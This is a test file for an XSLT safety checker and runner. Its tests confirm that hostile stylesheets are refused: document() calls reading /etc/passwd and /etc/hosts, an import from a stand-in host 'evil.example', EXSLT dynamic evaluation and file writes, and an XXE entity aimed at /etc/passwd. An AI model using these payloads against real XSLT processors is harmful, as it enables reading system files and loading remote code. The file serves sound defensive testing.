import { spawnSync } from "node:child_process";
import { describe, expect, it } from "vitest";
import { isAppError } from "../errors";
import { checkStylesheet } from "./check-stylesheet";
import { runXslt } from "./run-xslt";

const wrap = (body: string, rootAttributes = "") =>
  `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" ${rootAttributes}>${body}</xsl:stylesheet>`;

function refusalOf(run: () => unknown): string {
  try {
    run();
  } catch (error) {
    if (isAppError(error)) return `${error.details.reason}: ${error.message}`;
    throw error;
  }
  throw new Error("accepted");
}

describe("checkStylesheet refuses stylesheets that could read files or run extensions", () => {
  it.each([
    [
      "document() in select",
      wrap(`<xsl:template match="/"><xsl:copy-of select="document('/etc/passwd')"/></xsl:template>`),
    ],
    [
      "document() with spaces",
      wrap(`<xsl:template match="/"><xsl:value-of select="count(document ('x.xml'))"/></xsl:template>`),
    ],
    [
      "document() in an attribute value template",
      wrap(`<xsl:template match="/"><a href="{document('/etc/hosts')}"/></xsl:template>`),
    ],
    ["xsl:include", wrap(`<xsl:include href="/etc/other.xsl"/>`)],
    ["xsl:import", wrap(`<xsl:import href="http://evil.example/x.xsl"/>`)],
    [
      "EXSLT dyn:evaluate",
      wrap(
        `<xsl:template match="/"><xsl:value-of select="dyn:evaluate('1')"/></xsl:template>`,
        'xmlns:dyn="http://exslt.org/dynamic"',
      ),
    ],
    [
      "extension elements",
      wrap(
        `<xsl:template match="/"><exsl:document href="/tmp/x"/></xsl:template>`,
        'xmlns:exsl="http://exslt.org/common" extension-element-prefixes="exsl"',
      ),
    ],
  ])("%s", (_, stylesheet) => {
    expect(refusalOf(() => checkStylesheet(stylesheet))).toMatch(/^XSLT_NOT_ALLOWED/);
  });

  it("refuses DOCTYPEs, non-stylesheets and XSLT 2.0", () => {
    expect(
      refusalOf(() => checkStylesheet(`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${wrap("")}`)),
    ).toMatch(/^DOCTYPE/);
    expect(refusalOf(() => checkStylesheet("<html/>"))).toMatch(/root must be xsl:stylesheet/);
    expect(refusalOf(() => checkStylesheet(wrap("").replace('version="1.0"', 'version="2.0"')))).toMatch(
      /XSLT 1.0/,
    );
  });

  it("accepts an ordinary XSLT 1.0 stylesheet with XPath node tests on prefixed names", () => {
    const ok = wrap(
      `<xsl:template match="/"><judul><xsl:value-of select="normalize-space(//mri:citation//cit:title/gco:CharacterString)"/></judul></xsl:template>`,
      'xmlns:mri="urn:mri" xmlns:cit="urn:cit" xmlns:gco="urn:gco"',
    );
    expect(() => checkStylesheet(ok)).not.toThrow();
  });
});

const hasXsltproc = spawnSync("xsltproc", ["--version"]).status === 0;

describe.skipIf(!hasXsltproc)(
  "runXslt with xsltproc (skipped without it: apt-get install -y xsltproc)",
  () => {
    it("transforms a document", async () => {
      const out = await runXslt(
        wrap(
          `<xsl:output method="xml" encoding="UTF-8"/><xsl:template match="/"><n><xsl:value-of select="count(//b)"/></n></xsl:template>`,
        ),
        "<a><b/><b/></a>",
      );
      expect(out).toContain("<n>2</n>");
    });

    it("stops a stylesheet that runs too long", async () => {
      // 2^22 template calls: runXslt's own time limit is what is tested here.
      const slow = wrap(
        `<xsl:template match="/"><xsl:call-template name="f"><xsl:with-param name="d" select="0"/></xsl:call-template></xsl:template>
       <xsl:template name="f"><xsl:param name="d"/><xsl:if test="$d &lt; 22"><xsl:call-template name="f"><xsl:with-param name="d" select="$d + 1"/></xsl:call-template><xsl:call-template name="f"><xsl:with-param name="d" select="$d + 1"/></xsl:call-template></xsl:if></xsl:template>`,
      );
      const started = performance.now();
      await expect(runXslt(slow, "<a/>", 300)).rejects.toMatchObject({ details: { reason: "XSLT_TIMEOUT" } });
      expect(performance.now() - started).toBeLessThan(2_000);
    });

    it("reports a stylesheet error as VALIDATION_FAILED", async () => {
      await expect(
        runXslt(wrap(`<xsl:template match="/"><xsl:value-of select="nonsense("/></xsl:template>`), "<a/>"),
      ).rejects.toMatchObject({ code: "VALIDATION_FAILED", details: { reason: "XSLT_FAILED" } });
    });
  },
);
